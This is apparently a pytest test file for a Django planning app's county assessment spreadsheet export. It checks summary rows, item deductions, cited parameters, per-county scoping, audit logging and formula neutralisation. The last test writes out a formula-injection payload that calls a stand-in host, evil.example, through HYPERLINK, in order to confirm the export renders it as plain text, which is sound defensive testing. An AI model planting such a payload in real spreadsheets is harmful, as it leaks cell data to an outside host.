"""The county assessment as .xlsx (P16): read back with python-calamine — one row per county with the four
dimension scores, total and grade, every item's points and explanation, the parameters each score cites;
scoped, audited, and no text written as a formula."""

from __future__ import annotations

import io
import re
import zipfile
from typing import Any

import pytest
from python_calamine import CalamineWorkbook

from tests.planning.builders import COUNTY
from tests.planning.test_assessment_pages import YEAR, assessed_world, client_of, frozen_year
from zhenxing.audit.models import AuditEvent
from zhenxing.common.xlsx import neutralised
from zhenxing.planning.assessment_export import CITATIONS_SHEET, ITEMS_SHEET, SUMMARY_HEADER, SUMMARY_SHEET
from zhenxing.planning.models import Assessment
from zhenxing.policy.rules.assessment import ITEMS

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("frozen_year")]
__all__ = ["frozen_year"]  # the assessed year frozen, as on the pages


def sheets(content: bytes) -> dict[str, list[list[Any]]]:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                assert not re.search(r"<f[ >]", archive.read(name).decode("utf-8")), f"formula in {name}"
    book = CalamineWorkbook.from_filelike(io.BytesIO(content))
    return {name: book.get_sheet_by_name(name).to_python() for name in book.sheet_names}


def test_p16_the_export_has_the_counties_their_items_and_the_parameters_cited() -> None:
    # given the 12 counties assessed for 2025 (南涧 一般 after a 100-point finding in 巩固成效)
    users, _ = assessed_world()
    # when the prefecture downloads the year
    response = client_of(users["prefecture"]).get(f"/planning/assessment/export.xlsx?year={YEAR}")
    assert response.status_code == 200 and "attachment" in response["Content-Disposition"]
    book = sheets(response.content)
    # then one row per county with its dimension scores, total and grade
    assert list(book) == [SUMMARY_SHEET, ITEMS_SHEET, CITATIONS_SHEET]
    summary = book[SUMMARY_SHEET]
    assert summary[0] == list(SUMMARY_HEADER) and len(summary) == 13
    nanjian = next(row for row in summary if row[1] == COUNTY)
    stored = Assessment.objects.get(county__code=COUNTY, year=YEAR, is_current=True)
    header = summary[0]
    assert nanjian[header.index("巩固成效")] == 0 and nanjian[header.index("总分")] == float(stored.total)
    assert nanjian[header.index("等次")] == "一般" and nanjian[header.index("版本")] == 1
    # every item of every county, and the finding's deduction
    items = book[ITEMS_SHEET]
    assert len([row for row in items[1:] if row[0] == "南涧彝族自治县"]) == len(ITEMS) + 1
    housing = next(row for row in items if row[0] == "南涧彝族自治县" and row[2] == "住房安全问题未销号")
    assert housing[7] == 1 and "住房安全问题未销号 1 户" in housing[6]
    assert any(row[2] == "实地抽查扣分" and row[3] == -100 for row in items)
    # the two parameters each county's score cites
    citations = book[CITATIONS_SHEET]
    assert len(citations) == 1 + 12 * 2
    assert {row[1] for row in citations[1:]} == {"考核评估（权重、扣分、等次分数线）", "规划指标统计口径"}
    # audited
    event = AuditEvent.objects.get(action="planning.export", target_type="planning.assessment")
    assert (
        event.new_values is not None and event.new_values["rows"] == 12 and event.actor == users["prefecture"]
    )


def test_p16_a_county_exports_its_own_row_only() -> None:
    users, _ = assessed_world()
    response = client_of(users["county"]).get(f"/planning/assessment/export.xlsx?year={YEAR}")
    book = sheets(response.content)
    assert [row[1] for row in book[SUMMARY_SHEET][1:]] == [COUNTY]
    assert {row[0] for row in book[ITEMS_SHEET][1:]} == {"南涧彝族自治县"}


def test_p16_text_that_looks_like_a_formula_is_written_as_text() -> None:
    # given an explanation that starts like a formula (as if a label had been typed so)
    users, _ = assessed_world()
    stored = Assessment.objects.get(county__code=COUNTY, year=YEAR, is_current=True)
    payload = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'
    stored.scores["items"][0]["explanation"] = payload
    stored.save(update_fields=["scores"])
    # when exported, then it is a quoted text cell, never a formula
    book = sheets(client_of(users["prefecture"]).get(f"/planning/assessment/export.xlsx?year={YEAR}").content)
    texts = [value for row in book[ITEMS_SHEET] for value in row if isinstance(value, str)]
    assert neutralised(payload) in texts
    assert not [text for text in texts if text.startswith(("=", "+", "@", "\t", "\r"))]
